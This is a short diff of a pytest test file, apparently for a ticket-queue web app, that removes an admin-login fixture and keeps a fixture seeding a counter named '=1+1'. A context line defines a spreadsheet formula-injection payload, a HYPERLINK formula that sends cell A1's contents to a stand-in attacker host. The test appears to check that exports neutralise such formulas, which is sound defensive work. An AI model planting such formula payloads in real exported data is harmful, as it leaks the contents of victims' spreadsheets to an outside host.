@@ -16,13 +16,6 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
 
 
 @pytest.fixture
-def manager(make_client):
-    client = make_client()
-    client.post("/api/login", json={"username": "admin", "password": "admin"})
-    return client
-
-
-@pytest.fixture
 def served(hub, db, manager):
     """A ticket served at a counter named "=1+1" by a clerk named =HYPERLINK(...)."""
     assert manager.post("/api/admin/counters", json={"number": 9, "name": "=1+1", "services": ["A"]}).status_code == 201
